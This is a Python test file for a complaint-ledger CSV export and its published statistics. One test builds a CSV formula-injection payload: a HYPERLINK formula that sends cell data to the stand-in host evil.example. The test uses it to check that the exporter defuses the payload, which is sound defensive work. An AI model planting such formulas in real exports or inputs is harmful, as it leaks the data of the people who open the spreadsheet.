"""The complaint ledger (台账) that organizers open in Excel/WPS, and the statistics they read and publish."""

from __future__ import annotations

import codecs
import csv
import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from portal.domain.ledger import LEDGER_COLUMNS, ledger_csv, ledger_rows, neutralise
from portal.domain.reporting import CaseRecord
from portal.domain.statistics import PUBLICATION_THRESHOLD, compute_statistics, statistics_as_dict
from portal.domain.working_days import CHINA_TZ

MARCH = {"period_start": date(2026, 3, 1), "period_end": date(2026, 3, 31)}
BASE = CaseRecord(
    tracking_no="TS-0000-0000-0001",
    received_at=datetime(2026, 3, 10, 9, 0, tzinfo=CHINA_TZ),
    status="submitted",
    status_label="已提交，等待受理",
    category="food",
    category_label="食品",
    issue_type="quality",
    issue_type_label="质量问题",
    region="beijing",
    region_label="北京市",
    business_name="某某超市",
    product_name="纯牛奶",
    purchased_on=date(2026, 3, 1),
    amount=Decimal("59.90"),
    description="购买的纯牛奶已超过保质期，商家拒绝退货。",
    demands=("退款", "赔偿"),
    accepted_at=None,
    closed_at=None,
    outcome=None,
    outcome_label=None,
    amount_recovered=None,
    overdue=False,
    satisfaction=None,
    group_id=None,
    complainant_name="张三",
    complainant_phone="13800138000",
    complainant_email="zhangsan@example.com",
    handling_result=None,
)
OUTCOME_LABELS = {"settled": "调解成功", "not_settled": "调解不成", "withdrawn": "撤回投诉"}


def case(**changes: Any) -> CaseRecord:
    return replace(BASE, **changes)


def closed_case(outcome: str = "settled", *, days_to_close: float = 10, **changes: Any) -> CaseRecord:
    received = changes.pop("received_at", BASE.received_at)
    return case(
        received_at=received,
        status="closed",
        status_label="已结案",
        accepted_at=received + timedelta(days=1),
        closed_at=received + timedelta(days=days_to_close),
        outcome=outcome,
        outcome_label=OUTCOME_LABELS[outcome],
        **changes,
    )


def accepted_after(days: float, number: int) -> CaseRecord:
    return case(tracking_no=f"TS-{number}", status="accepted", accepted_at=BASE.received_at + timedelta(days=days))


def as_dict(row: list[Any]) -> dict[str, Any]:
    return dict(zip([key for key, _ in LEDGER_COLUMNS], row, strict=True))


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- the ledger ---------------------------------------------------------------------------------------------


def test_the_ledger_has_the_brief_fields_in_order_under_chinese_headers() -> None:
    # Given any ledger
    data = ledger_csv([BASE])

    # Then the header row names the ledger fields in this order
    expected = [
        "投诉编号", "登记时间", "投诉人姓名", "联系电话", "电子邮箱", "所在地区", "经营者", "商品或服务名称", "类别",
        "购买日期", "金额（元）", "问题类型", "事实与理由", "诉求", "状态", "处理结果", "结案方式", "挽回金额（元）",
        "结案时间", "满意度",
    ]  # fmt: skip
    assert [header for _, header in LEDGER_COLUMNS] == expected
    assert read_csv(data)[0] == expected


def test_a_ledger_row_shows_labels_where_the_record_holds_codes() -> None:
    # Given a settled complaint the complainant rated as partly satisfying
    record = closed_case(
        amount_recovered=Decimal("59.9"), satisfaction="partly", handling_result="商家退款并致歉", overdue=True
    )

    # When the ledger is built
    [row] = ledger_rows([record])

    # Then each column holds the readable value in its typed form
    assert as_dict(row) == {
        "tracking_no": "TS-0000-0000-0001",
        "received_at": datetime(2026, 3, 10, 9, 0, tzinfo=CHINA_TZ),
        "complainant_name": "张三",
        "complainant_phone": "13800138000",
        "complainant_email": "zhangsan@example.com",
        "region": "北京市",
        "business_name": "某某超市",
        "product_name": "纯牛奶",
        "category": "食品",
        "purchased_on": date(2026, 3, 1),
        "amount": Decimal("59.90"),
        "issue_type": "质量问题",
        "description": "购买的纯牛奶已超过保质期，商家拒绝退货。",
        "demands": "退款、赔偿",
        "status": "已结案",
        "handling_result": "商家退款并致歉",
        "outcome": "调解成功",
        "amount_recovered": Decimal("59.9"),
        "closed_at": datetime(2026, 3, 20, 9, 0, tzinfo=CHINA_TZ),
        "satisfaction": "部分满意",
    }


def test_ledger_times_are_china_time_whatever_zone_the_record_uses() -> None:
    # Given a complaint stored in UTC at 15:30, which is 23:30 in Beijing
    record = case(received_at=datetime(2026, 3, 31, 15, 30, tzinfo=UTC))

    # When the ledger is built
    [row] = ledger_rows([record])
    [_, csv_row] = read_csv(ledger_csv([record]))

    # Then both the typed row and the CSV show Beijing time
    received = as_dict(row)["received_at"]
    assert received.utcoffset() == timedelta(hours=8)
    assert (received.date(), received.hour, received.minute) == (date(2026, 3, 31), 23, 30)
    assert as_dict(csv_row)["received_at"] == "2026-03-31 23:30"


def test_the_ledger_lists_complaints_oldest_first() -> None:
    # Given two complaints passed newest first
    newer = case(tracking_no="TS-B", received_at=datetime(2026, 3, 12, tzinfo=CHINA_TZ))
    older = case(tracking_no="TS-A", received_at=datetime(2026, 3, 11, tzinfo=CHINA_TZ))

    # Then the ledger starts with the older one
    assert [row[0] for row in ledger_rows([newer, older])] == ["TS-A", "TS-B"]


def test_erased_personal_data_leaves_empty_cells() -> None:
    # Given a complaint whose personal data was erased
    record = case(complainant_name=None, complainant_phone=None, complainant_email=None)

    # When exported
    [_, row] = read_csv(ledger_csv([record]))

    # Then the personal cells are empty and the rest is intact
    assert [as_dict(row)[key] for key in ("complainant_name", "complainant_phone", "complainant_email")] == [""] * 3
    assert as_dict(row)["business_name"] == "某某超市"


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("field", ["complainant_name", "business_name", "description"])
def test_a_cell_starting_with_a_formula_trigger_is_written_as_text(field: str, trigger: str) -> None:
    # Given hostile text in a field the complainant controls
    hostile = trigger + 'HYPERLINK("http://evil.example/?d="&A1,"点击")'
    record = case(**{field: hostile})

    # When the ledger is exported as CSV
    [_, row] = read_csv(ledger_csv([record]))

    # Then the cell starts with an apostrophe, so a spreadsheet shows it instead of evaluating it
    assert as_dict(row)[field] == "'" + hostile


def test_neutralise_leaves_ordinary_text_and_triggers_inside_the_text_alone() -> None:
    for text in ["张三", "a=b", "价格 -50 元", "", "'已转义"]:
        assert neutralise(text) == text


def test_neutralise_drops_control_characters_that_could_hide_a_formula_trigger() -> None:
    # Given a NUL before the formula, which a spreadsheet writer would otherwise strip or choke on
    # Then the control character is gone and the formula is still defused
    assert neutralise("\x00\x1b=1+1") == "'=1+1"
    assert neutralise("第一行\n第二行") == "第一行\n第二行"


def test_amounts_and_dates_stay_plain_values_in_the_csv() -> None:
    # Given a settled complaint with an amount recovered
    record = closed_case(amount_recovered=Decimal("12.5"))

    # When exported
    row = as_dict(read_csv(ledger_csv([record]))[1])

    # Then numbers and dates are written as a spreadsheet parses them, without an apostrophe
    assert (row["amount"], row["amount_recovered"]) == ("59.90", "12.50")
    assert (row["purchased_on"], row["closed_at"]) == ("2026-03-01", "2026-03-20 09:00")


def test_the_csv_has_a_bom_crlf_line_ends_and_round_trips_through_a_csv_reader() -> None:
    # Given free text with a comma, quotes and a line break, and a second plain complaint
    tricky = case(description='商家说"不退"，\n还拉黑了我，理由是：已拆封', demands=("退货",))
    plain = case(tracking_no="TS-0000-0000-0002", received_at=datetime(2026, 3, 11, tzinfo=CHINA_TZ))

    # When exported
    data = ledger_csv([tricky, plain])

    # Then Excel/WPS see a UTF-8 BOM, records end in CRLF and the cells read back unchanged
    assert data.startswith(codecs.BOM_UTF8)
    assert data.endswith(b"\r\n")
    assert data.count(b"\n") == data.count(b"\r\n") + 1  # the one line break inside the quoted description
    rows = read_csv(data)
    assert len(rows) == 3
    assert as_dict(rows[1])["description"] == '商家说"不退"，\n还拉黑了我，理由是：已拆封'
    assert as_dict(rows[2])["tracking_no"] == "TS-0000-0000-0002"


# --- statistics ---------------------------------------------------------------------------------------------


def test_counts_are_broken_down_by_category_issue_region_and_month_most_frequent_first() -> None:
    # Given three food complaints, two travel and two clothing complaints in March
    records = [
        *[case(category="food", category_label="食品", region="shanghai", region_label="上海市")] * 3,
        *[case(category="travel", category_label="旅游", issue_type="contract", issue_type_label="合同")] * 2,
        *[case(category="clothing", category_label="服装")] * 2,
    ]

    # When statistics are computed for March without suppression
    stats = compute_statistics(records, **MARCH, suppress_below=None)

    # Then counts are sorted by count, ties by code
    assert stats.total == 7
    assert stats.by_category == (("food", "食品", 3), ("clothing", "服装", 2), ("travel", "旅游", 2))
    assert stats.by_issue_type == (("quality", "质量问题", 5), ("contract", "合同", 2))
    assert stats.by_region == (("beijing", "北京市", 4), ("shanghai", "上海市", 3))
    assert stats.by_month == (("2026-03", "2026年3月", 7),)
    assert stats.suppressed_below is None


def test_only_complaints_received_on_a_china_date_inside_the_period_count() -> None:
    # Given complaints near the month boundaries, stored in UTC
    late_march = case(received_at=datetime(2026, 3, 31, 15, 30, tzinfo=UTC))  # 23:30 on 03-31 in Beijing
    early_march = case(received_at=datetime(2026, 2, 28, 16, 30, tzinfo=UTC))  # 00:30 on 03-01 in Beijing
    april = case(received_at=datetime(2026, 3, 31, 16, 30, tzinfo=UTC))  # 00:30 on 04-01 in Beijing
    february = case(received_at=datetime(2026, 2, 28, 15, 30, tzinfo=UTC))  # 23:30 on 02-28 in Beijing

    # When statistics are computed for March
    stats = compute_statistics([late_march, early_march, april, february], **MARCH, suppress_below=None)

    # Then only the two Beijing-March complaints count, both in month 2026-03
    assert stats.total == 2
    assert stats.by_month == (("2026-03", "2026年3月", 2),)


def test_the_median_days_to_accept_is_the_middle_case_for_an_odd_count() -> None:
    # Given complaints accepted after 1, 2.5 and 30 days, and one not accepted yet
    records = [accepted_after(1, 1), accepted_after(2.5, 2), accepted_after(30, 3), case()]

    # Then the median ignores the pending one and the outlier
    assert compute_statistics(records, **MARCH, suppress_below=None).median_days_to_accept == 2.5


def test_the_median_days_to_accept_is_the_mean_of_the_middle_two_for_an_even_count() -> None:
    # Given complaints accepted after 6 hours, 1 day, 2 days and 10 days
    records = [accepted_after(0.25, 1), accepted_after(1, 2), accepted_after(2, 3), accepted_after(10, 4)]

    # Then the median is (1 + 2) / 2
    assert compute_statistics(records, **MARCH, suppress_below=None).median_days_to_accept == 1.5


def test_the_median_days_to_close_is_rounded_to_one_decimal_and_absent_without_closed_cases() -> None:
    # Given closed complaints that took 3 days 4 hours and 7 days
    closed = [closed_case(days_to_close=3 + 4 / 24), closed_case(days_to_close=7)]

    # Then the median is 5.1 days; with only open complaints there is no median at all
    assert compute_statistics(closed, **MARCH, suppress_below=None).median_days_to_close == 5.1
    open_only = compute_statistics([case()], **MARCH, suppress_below=None)
    assert (open_only.median_days_to_close, open_only.median_days_to_accept) == (None, None)


def test_the_share_resolved_counts_settled_cases_among_closed_ones_not_withdrawn() -> None:
    # Given 3 settled, 1 not settled, 2 withdrawn, 1 rejected and 1 open complaint
    records = [
        *[closed_case("settled")] * 3,
        closed_case("not_settled"),
        *[closed_case("withdrawn")] * 2,
        case(status="rejected", status_label="不予受理", outcome="rejected", outcome_label="不予受理"),
        case(),
    ]

    # Then three out of four concluded cases were resolved
    assert compute_statistics(records, **MARCH, suppress_below=None).share_resolved == 0.75


def test_the_share_resolved_is_absent_when_nothing_was_closed() -> None:
    assert compute_statistics([case()], **MARCH, suppress_below=None).share_resolved is None


def test_amount_recovered_overdue_and_satisfaction_are_totalled() -> None:
    # Given closed cases with money recovered and ratings, one closed unrated, one open and overdue
    records = [
        closed_case(amount_recovered=Decimal("100.50"), satisfaction="satisfied"),
        closed_case(amount_recovered=Decimal("20"), satisfaction="satisfied", overdue=True),
        closed_case("not_settled", amount_recovered=Decimal("0"), satisfaction="not_satisfied"),
        closed_case("withdrawn"),
        case(overdue=True),
    ]

    # When statistics are computed
    stats = compute_statistics(records, **MARCH, suppress_below=None)

    # Then money is summed exactly, and unrated means closed without a rating (the open case is not counted)
    assert stats.amount_recovered == Decimal("120.50")
    assert stats.overdue == 2
    assert stats.satisfaction == (
        ("satisfied", "满意", 2),
        ("partly", "部分满意", 0),
        ("not_satisfied", "不满意", 1),
        ("unrated", "未评价", 1),
    )


def test_hotspots_are_the_ten_most_frequent_category_and_issue_pairs() -> None:
    # Given category k with issue i occurring k times (k = 1..12), and category 12 with issue a also 12 times
    records = [
        case(category=f"c{k:02}", category_label=f"类别{k}", issue_type="i", issue_type_label="问题")
        for k in range(1, 13)
        for _ in range(k)
    ]
    records += [case(category="c12", category_label="类别12", issue_type="a", issue_type_label="甲")] * 12

    # When statistics are computed
    hotspots = compute_statistics(records, **MARCH, suppress_below=None).hotspots

    # Then the ten largest remain, most frequent first, ties by category then issue type
    assert len(hotspots) == 10
    assert hotspots[:3] == (
        ("c12", "类别12", "a", "甲", 12),
        ("c12", "类别12", "i", "问题", 12),
        ("c11", "类别11", "i", "问题", 11),
    )
    assert [count for *_, count in hotspots] == [12, 12, 11, 10, 9, 8, 7, 6, 5, 4]


def test_publication_suppresses_small_counts_and_keeps_large_ones() -> None:
    # Given 6 food complaints (4 of them accepted) and single travel and clothing complaints
    records = [
        *[closed_case(amount_recovered=Decimal("10"), satisfaction="satisfied")] * 4,
        *[case()] * 2,
        case(category="travel", category_label="旅游"),
        case(category="clothing", category_label="服装"),
    ]

    # When statistics are computed for publication
    stats = compute_statistics(records, **MARCH, suppress_below=PUBLICATION_THRESHOLD)

    # Then counts of 5 or more stay, smaller ones become None and go last in code order
    assert stats.suppressed_below == 5
    assert stats.total == 8
    assert stats.by_category == (("food", "食品", 6), ("clothing", "服装", None), ("travel", "旅游", None))
    assert stats.hotspots == (("food", "食品", "quality", "质量问题", 6), *stats.hotspots[1:])
    assert all(count is None for *_, count in stats.hotspots[1:])
    # and figures computed from four cases are withheld too
    assert stats.median_days_to_accept is None
    assert stats.median_days_to_close is None
    assert stats.share_resolved is None
    assert stats.amount_recovered is None
    assert stats.overdue is None
    assert stats.satisfaction[0] == ("satisfied", "满意", None)


def test_publication_keeps_figures_computed_from_enough_cases() -> None:
    # Given five settled complaints
    records = [closed_case(amount_recovered=Decimal("10"), days_to_close=k) for k in range(2, 7)]

    # When statistics are computed for publication
    stats = compute_statistics(records, **MARCH, suppress_below=PUBLICATION_THRESHOLD)

    # Then the medians, the share and the amount are shown
    assert (stats.median_days_to_accept, stats.median_days_to_close) == (1.0, 4.0)
    assert (stats.share_resolved, stats.amount_recovered) == (1.0, Decimal("50"))


def test_publication_hides_the_total_below_the_threshold() -> None:
    stats = compute_statistics([case()] * 4, **MARCH, suppress_below=PUBLICATION_THRESHOLD)
    assert stats.total is None


def test_statistics_as_dict_is_json_ready_with_money_as_text() -> None:
    # Given statistics with an amount recovered and a suppressed figure
    records = [closed_case(amount_recovered=Decimal("1234.5"))] * 5 + [case(category="travel", category_label="旅游")]
    stats = compute_statistics(records, **MARCH, suppress_below=PUBLICATION_THRESHOLD)

    # When turned into a dict
    result = statistics_as_dict(stats)

    # Then it serialises as JSON, money has two decimals and suppressed counts stay None
    assert json.loads(json.dumps(result, ensure_ascii=False)) == result
    assert result["amount_recovered"] == "6172.50"
    assert result["period_start"] == "2026-03-01"
    assert result["by_category"] == [
        {"code": "food", "label": "食品", "count": 5},
        {"code": "travel", "label": "旅游", "count": None},
    ]
    assert result["hotspots"] == [
        {
            "category": "food",
            "category_label": "食品",
            "issue_type": "quality",
            "issue_type_label": "质量问题",
            "count": 5,
        },
        {
            "category": "travel",
            "category_label": "旅游",
            "issue_type": "quality",
            "issue_type_label": "质量问题",
            "count": None,
        },
    ]


def test_a_period_that_ends_before_it_starts_is_refused() -> None:
    with pytest.raises(ValueError, match="period"):
        compute_statistics([], period_start=date(2026, 4, 1), period_end=date(2026, 3, 1), suppress_below=None)


def test_a_record_without_a_time_zone_is_refused() -> None:
    with pytest.raises(ValueError, match="received_at"):
        case(received_at=datetime(2026, 3, 10, 9, 0))


@given(
    st.lists(
        st.tuples(
            st.sampled_from(["food", "travel", "clothing", "telecom"]),
            st.datetimes(datetime(2026, 1, 1), datetime(2026, 12, 31), timezones=st.just(UTC)),
        ),
        max_size=40,
    )
)
def test_by_category_counts_add_up_to_the_total_when_nothing_is_suppressed(cases: list[tuple[str, datetime]]) -> None:
    # Given complaints in any categories received across the year
    records = [case(category=category, category_label=category, received_at=at) for category, at in cases]

    # When statistics cover the second quarter
    stats = compute_statistics(
        records, period_start=date(2026, 4, 1), period_end=date(2026, 6, 30), suppress_below=None
    )

    # Then every counted complaint is in exactly one category
    assert sum(count or 0 for *_, count in stats.by_category) == stats.total
